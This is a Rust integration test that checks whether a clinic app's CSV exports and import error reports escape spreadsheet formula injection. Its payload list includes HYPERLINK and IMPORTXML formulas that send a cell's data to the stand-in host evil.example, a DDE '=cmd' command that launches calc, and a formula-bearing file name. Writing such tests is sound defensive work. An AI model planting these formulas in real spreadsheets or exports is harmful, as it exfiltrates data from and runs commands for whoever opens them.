//! Formulas in what is taken out as a sheet: a spreadsheet calculates none of them.
use std::time::Duration;

use poem::http::Method;
use serde_json::json;

use crate::support::{Desk, World};

const FORMULAS: [&str; 12] = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"clique\")",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "  =1+1",
    "%0A=1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/\";A1);\"//a\")",
];

/// Whether a spreadsheet would calculate a cell: what starts with one of these, after whatever it takes away first.
fn is_live(cell: &str) -> bool {
    cell.trim_start().starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
        || cell.starts_with(['\t', '\r'])
}

/// The live cells of a sheet.
fn live(bytes: &[u8], delimiter: u8) -> Vec<String> {
    let text = bytes.strip_prefix(b"\xef\xbb\xbf").unwrap_or(bytes);
    let mut reader = csv::ReaderBuilder::new().delimiter(delimiter).flexible(true).from_reader(text);
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert!(!records.is_empty(), "an empty sheet proves nothing");
    let cells = records.iter().flat_map(|record| record.iter().map(str::to_owned).collect::<Vec<_>>());
    cells.filter(|cell| is_live(cell)).collect()
}

async fn send_list(owner: &Desk, list: &str, name: &str) -> i64 {
    let path = format!("/api/contacts/import?dry_run=0&file_name={name}");
    let body = (Some("text/csv"), list.as_bytes().to_vec());
    let started = owner.send_bytes(Method::POST, &path, &[], body).await.expect(202);
    let id = started["import_id"].as_i64().unwrap();
    for _ in 0..500 {
        let now = owner.get(&format!("/api/contacts/imports/{id}")).await.expect(200);
        if now["status"] != "running" {
            return id;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    panic!("the import does not end");
}

#[tokio::test(flavor = "multi_thread")]
async fn no_cell_that_is_taken_out_is_calculated() {
    let world = World::new().await;
    let owner = world.owner().await;
    // In the trail: reasons and names of people.
    for formula in FORMULAS {
        let person = json!({ "name": formula.trim(), "roles": ["professional"], "is_professional": true });
        owner.post("/api/clinic/1/users", person).await;
        let block = json!({ "starts_at": "2026-12-01T12:00:00Z", "ends_at": "2026-12-01T13:00:00Z", "reason": formula });
        owner.post("/api/clinic/1/blocks", block).await;
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    let trail = owner.get("/api/audit/export?format=csv").await;
    assert_eq!(live(&trail.bytes, b','), Vec::<String>::new());
    // In the rows an import could not take: every one lacks a phone.
    for delimiter in [';', ','] {
        let mut list = ["Nome", "Telefone", "E-mail", "Observações"].join(&delimiter.to_string()) + "\n";
        for formula in FORMULAS {
            let cell = format!("\"{}\"", formula.replace('"', "\"\""));
            list += &[cell.as_str(), "", cell.as_str(), cell.as_str()].join(&delimiter.to_string());
            list.push('\n');
        }
        let id = send_list(&owner, &list, "=cmd().csv").await;
        let errors = owner.get(&format!("/api/contacts/imports/{id}/errors")).await;
        assert_eq!(answer_status(&errors), 200);
        let separator = if errors.bytes.contains(&b';') && delimiter == ';' { b';' } else { b',' };
        assert_eq!(
            live(&errors.bytes, separator),
            Vec::<String>::new(),
            "{}",
            String::from_utf8_lossy(&errors.bytes)
        );
        assert!(
            !errors.header("content-disposition").contains("=cmd"),
            "{}",
            errors.header("content-disposition")
        );
    }
}

fn answer_status(answer: &crate::support::Answer) -> u16 {
    answer.status.as_u16()
}
